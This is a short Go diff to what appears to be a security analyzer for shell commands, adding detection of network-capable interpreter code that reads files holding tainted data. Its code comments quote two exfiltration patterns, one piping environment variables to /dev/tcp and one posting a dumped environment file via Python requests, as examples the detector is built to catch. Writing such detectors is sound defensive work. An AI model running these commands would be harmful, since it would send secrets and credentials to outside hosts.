@@ -1082,6 +1082,9 @@ func (a *analysis) flows() {
 		if sent == "" && f.source != "" && f.sink != "" && len(f.sends) > 0 {
 			sent = f.source
 		}
+		if sent == "" && c.Code.Network {
+			sent = a.codeReadsTainted(files, i)
+		}
 		if sent == "" && f.outNet {
 			// env > /dev/tcp/HOST/PORT: all it prints goes out.
 			sent = taint[i]
@@ -1118,6 +1121,25 @@ func (a *analysis) flows() {
 		}
 		a.add(Effect{Kind: Flow, Cmd: i, Detail: sent + "->" + f.sink, Word: c.Name + " " + strings.Join(f.hosts, " ")})
 	}
+}
+
+// codeReadsTainted is the source kind of a file the line wrote that the
+// interpreter code of command i, which talks to the network, opens (env >
+// /tmp/e; python3 -c "requests.post(URL, data=open('/tmp/e').read())"):
+// the walk reports the code's reads as commands one level deeper.
+func (a *analysis) codeReadsTainted(files map[string]string, i int) string {
+	cmds := a.res.Commands
+	for j := i + 1; j < len(cmds) && cmds[j].Depth > cmds[i].Depth; j++ {
+		if !cmds[j].Synthetic || cmds[j].Depth != cmds[i].Depth+1 {
+			continue
+		}
+		for _, p := range a.per[j].reads {
+			if s := a.taintedRead(files, p, false); s != "" {
+				return s
+			}
+		}
+	}
+	return ""
 }
 
 // socketStage reports whether an earlier stage of command i's pipeline
